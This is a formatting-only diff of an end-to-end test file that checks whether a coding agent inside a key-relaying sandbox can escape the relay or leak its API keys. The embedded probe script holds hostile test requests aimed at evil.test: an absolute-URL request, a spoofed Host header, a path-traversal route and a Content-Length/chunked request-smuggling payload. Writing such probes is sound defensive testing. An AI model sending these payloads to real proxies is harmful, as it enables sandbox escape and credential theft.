@@ -30,7 +30,7 @@ from tests.e2e.conftest import (
 )
 
 # What the agent runs: a search of everything it can read, and requests to the relay.
-PROBE = r'''
+PROBE = r"""
 import errno, http.client, json, os, signal, socket, sys
 
 # Given reversed: the probe's own command line (in /proc) must not hold them.
@@ -123,14 +123,20 @@ elif sys.argv[1] == "requests":
         "llm": relay(f"/{other}/v1/probe-llm"),
         "other host": relay("/evil.test/v1/probe-evil"),
         "root": relay("/"),
-        "absolute": raw(f"GET http://evil.test/{host}/v1/probe-absolute HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"),
+        "absolute": raw(
+            f"GET http://evil.test/{host}/v1/probe-absolute HTTP/1.1\r\n"
+            "Host: evil.test\r\nConnection: close\r\n\r\n"
+        ),
         "host header": relay(f"/{host}/v1/probe-host", {"Host": "evil.test"}),
         "traversal": relay(f"/{host}/../evil.test/v1/probe-traversal"),
-        "smuggled": raw(f"GET /{host}/v1/probe-smuggle HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
+        "smuggled": raw(
+            f"GET /{host}/v1/probe-smuggle HTTP/1.1\r\nHost: x\r\n"
+            "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
+        ),
     }))
 elif sys.argv[1] == "attack":
     print(json.dumps(attack()))
-'''
+"""
 
 
 def canaries() -> tuple[str, str]:
@@ -149,7 +155,11 @@ def relay_project(root: Path, image: str, owner: int) -> Path:
         agents=["codex"],
         apt_packages=[],
         allowed_domains=[MOCK_NAME],
-        relay=[f"CODEX_API_KEY={MOCK_NAME}", f"OPENAI_API_KEY={MOCK_NAME}", f"LLM_KEY={MOCK_LLM_NAME}"],
+        relay=[
+            f"CODEX_API_KEY={MOCK_NAME}",
+            f"OPENAI_API_KEY={MOCK_NAME}",
+            f"LLM_KEY={MOCK_LLM_NAME}",
+        ],
     )
     (project / "probe.py").write_text(PROBE)
     (project / ".codex/.environment/config.toml").write_text('model = "mock-model"\n')
@@ -221,9 +231,7 @@ def test_a_key_the_relay_cannot_carry_is_refused_before_the_start(relay_sandbox:
     assert len(result.stderr.strip().splitlines()) == 1
 
 
-def test_the_real_codex_works_through_the_relay(
-    relay_sandbox: Sandbox, mock_api: str
-) -> None:
+def test_the_real_codex_works_through_the_relay(relay_sandbox: Sandbox, mock_api: str) -> None:
     key, _ = canaries()
     proof = relay_sandbox.project / "proof.txt"
     proof.unlink(missing_ok=True)
@@ -233,7 +241,9 @@ def test_the_real_codex_works_through_the_relay(
     expected_uid = 0 if relay_sandbox.root_mode else PROJECT_UID
     assert proof.read_text().strip() == str(expected_uid)
     mine = [r for r in requests_seen(mock_api) if r["authorization"] == f"Bearer {key}"]
-    assert any(r["path"] == "/v1/responses" and r["tls"] for r in mine), requests_seen(mock_api)[-5:]
+    assert any(r["path"] == "/v1/responses" and r["tls"] for r in mine), requests_seen(mock_api)[
+        -5:
+    ]
     # codex was never given the key, only the placeholder.
     leaked = subprocess.run(
         ["grep", "-rl", key, str(relay_sandbox.project)], capture_output=True, text=True
